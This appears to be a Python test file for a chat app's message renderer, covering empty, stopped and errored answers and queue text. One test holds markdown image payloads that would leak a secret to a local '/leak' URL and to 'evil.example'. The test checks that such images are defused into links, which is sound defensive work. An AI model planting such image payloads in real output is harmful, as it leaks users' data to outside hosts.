"""How messages are shown: pure functions of the stored message."""

from __future__ import annotations

from domain.types import Message, Role, Status
from ui import render


def answer(text: str, status: Status = Status.COMPLETE, error: str | None = None) -> Message:
    return Message(id=1, conversation_id="c", role=Role.ASSISTANT, text=text, status=status, error=error)


def test_a_complete_but_empty_answer_says_so_instead_of_thinking_forever():
    for text in ("", "  \n"):
        shown = render.chat_message(answer(text))["content"]
        assert shown == render.EMPTY_ANSWER and shown != render.THINKING
    assert render.streaming_text("") == render.THINKING


def test_stopped_and_failed_answers_keep_their_text():
    assert render.chat_message(answer("Half", Status.STOPPED))["content"] == f"Half\n\n{render.STOPPED_MARK}"
    assert render.chat_message(answer("", Status.ERROR, "boom"))["content"] == "⚠️ boom"


def test_remote_markdown_images_become_links():
    leak = "see ![x](http://127.0.0.1:7999/leak?secret=abc) and ![](//evil.example/p.png \"t\") and ![ok](data:image/png;base64,AA)"
    shown = render.chat_message(answer(leak))["content"]
    assert "![" not in shown.replace("![ok](data:", "")
    assert "[🖼 x](http://127.0.0.1:7999/leak?secret=abc)" in shown
    assert "[🖼 image](//evil.example/p.png)" in shown
    user = Message(id=2, conversation_id="c", role=Role.USER, text=leak, status=Status.COMPLETE)
    assert "![x](http" not in render.chat_message(user)["content"][-1]


def test_queued_text_counts_answers_ahead():
    assert "1 answer for other chats" in render.queued_text(1)
    assert "3 answers" in render.queued_text(3)
